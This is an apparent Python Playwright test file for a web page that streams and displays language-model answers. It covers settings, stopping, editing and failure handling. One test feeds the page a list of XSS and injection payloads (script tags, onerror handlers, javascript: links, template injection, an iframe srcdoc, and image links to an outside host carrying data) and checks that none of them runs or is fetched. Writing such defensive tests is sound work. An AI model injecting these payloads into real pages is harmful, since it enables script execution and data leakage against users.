"""The page over a language model: chosen in the settings, streamed, stopped, and not trusted."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import expect

from app.settings import Settings
from tests.support.model_server import ModelServer, Stream, running
from tests.support.page import WAIT, Visitor
from tests.support.page_model import quoting

PEOPLE = "Some 1,480 people live on Skua Rock, the island council said on Monday."
PUPILS = "The school has 96 pupils."
QUESTION = "How many people live on Skua Rock?"
HOSTILE = [
    "<script>window.hacked=1</script> Some 1,480 people live on Skua Rock. [{}]",
    '<img src="https://stranger.example/a.png" onerror="window.hacked=2"> [{}]',
    "![seen](https://stranger.example/b.png?q=1480) Some 1,480 people live on Skua Rock. [{}]",
    "[The council](javascript:window.hacked=3) says that 1,480 people live on Skua Rock. [{}]",
    "${window.hacked=4} {{constructor.constructor('window.hacked=5')()}} [{}]",
    "Open https://stranger.example/c?d=1480 to read more. [{}]",
    '</li></ul><iframe srcdoc="<script>parent.hacked=6</script>"></iframe> [{}]',
]


@pytest.fixture(scope="module")
def model() -> Iterator[ModelServer]:
    with running(quoting(PEOPLE)) as server:
        yield server


@pytest.fixture(scope="module")
def visitor(
    browser: Any, serve_page: Any, model: ModelServer, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Visitor]:
    settings = Settings(base_url=model.url, model="scripted", cache=False, retries=0, repairs=0)
    found = Visitor(browser, serve_page(settings=settings).address)
    found.open()
    yield found
    found.close()


@pytest.fixture(autouse=True)
def new_conversation(visitor: Visitor, model: ModelServer) -> None:
    """Each test begins with an empty conversation, and a model that quotes."""
    model.replies[:] = [quoting(PEOPLE)]
    visitor.page.get_by_role("button", name="New", exact=True).click()
    visitor.page.wait_for_selector(".gw-empty")


def test_an_editor_chooses_the_model_for_everybody(browser: Any, serve_page: Any, model: ModelServer) -> None:
    settings = Settings(base_url=model.url, cache=False, retries=0, repairs=0)
    visitor = Visitor(browser, serve_page(settings=settings, settings_open=True).address)
    visitor.open()
    page = visitor.page
    page.get_by_role("tab", name="Settings").click()
    page.wait_for_selector("#findings li")
    page.get_by_label("Sentences of a model, each checked").check()
    page.locator("#apply").click()
    visitor.notice("no model is named")
    page.get_by_label("Model", exact=True).fill("scripted")
    page.get_by_label("Budget in tokens").fill("100000")
    page.locator("#apply").click()
    visitor.notice("Answers are made so from now on")
    page.wait_for_function("document.querySelector('#findings')?.innerText.includes('scripted')")
    assert page.get_by_label("Budget in tokens").input_value() == "100000"
    page.get_by_role("tab", name="Ask").click()
    visitor.ask(QUESTION)
    assert PEOPLE in visitor.last() and model.requests[-1]["model"] == "scripted"
    visitor.close()


def test_a_sentence_is_shown_before_the_next_is_there_and_stop_keeps_it(
    visitor: Visitor, model: ModelServer
) -> None:
    page = visitor.page
    stop = page.get_by_role("button", name="Stop")
    expect(stop).to_be_disabled(timeout=WAIT)
    model.replies[:] = [quoting(PEOPLE, hang=True)]
    page.fill("#question textarea", QUESTION)
    page.press("#question textarea", "Enter")
    page.wait_for_selector(".gw-claim")
    assert page.locator(".gw-busy").is_visible() and page.locator(".gw-actions").count() == 0
    beside = visitor.context.new_page()  # the same person looks from another window
    beside.goto(page.url)
    beside.wait_for_selector(".gw-claim", timeout=60_000)
    assert beside.locator(".gw-busy").is_visible()
    stop.click()
    visitor.notice("Stopped.")
    page.wait_for_selector(".gw-actions")
    assert PEOPLE in visitor.last() and "Stopped before the answer was whole" in visitor.last()
    expect(stop).to_be_disabled(timeout=WAIT)
    beside.wait_for_selector(".gw-actions", timeout=60_000)  # it asks again until the answer has ended
    assert "Stopped before the answer was whole" in beside.inner_text("#conversation")
    beside.close()

    model.replies[:] = [quoting(PEOPLE, PUPILS)]
    page.get_by_role("button", name="Ask again").click()
    page.wait_for_function("document.querySelector('#conversation')?.innerText.includes('96 pupils')")
    assert page.locator(".gw-turn").count() == 1 and "Stopped" not in visitor.last()


def test_an_edit_can_be_given_up(visitor: Visitor, model: ModelServer) -> None:
    page = visitor.page
    visitor.ask(QUESTION)
    page.get_by_role("button", name="Edit").click()
    visitor.notice("takes the place of the old one")
    page.get_by_role("button", name="Ask a new one instead").click()
    page.wait_for_function("document.querySelector('#question textarea').value === ''")
    visitor.ask("How many pupils does the school have?")
    assert page.locator(".gw-turn").count() == 2


def test_nothing_that_a_hostile_model_writes_runs_or_is_fetched(visitor: Visitor, model: ModelServer) -> None:
    page = visitor.page
    model.replies[:] = [quoting(PEOPLE, then=HOSTILE)]
    visitor.ask(QUESTION)
    assert PEOPLE in visitor.last()
    withheld = page.locator(".gw-turn").last.locator(".gw-withheld")
    withheld.locator("summary").click()
    assert withheld.locator("li").count() >= 3
    assert (
        page.locator("#conversation :is(img, script, iframe, a[href*=stranger], a[href^=javascript])").count()
        == 0
    )
    assert page.evaluate("window.hacked") is None and visitor.strangers() == []


def test_a_model_that_fails_is_told_and_the_answer_quotes(visitor: Visitor, model: ModelServer) -> None:
    model.replies[:] = [Stream(pieces=[b"no event at all\n\n"], finish=None, done=False)]
    visitor.ask("How many pupils does the school have?")
    assert PUPILS in visitor.last() and "without the model" in visitor.last()
    assert visitor.errors == []
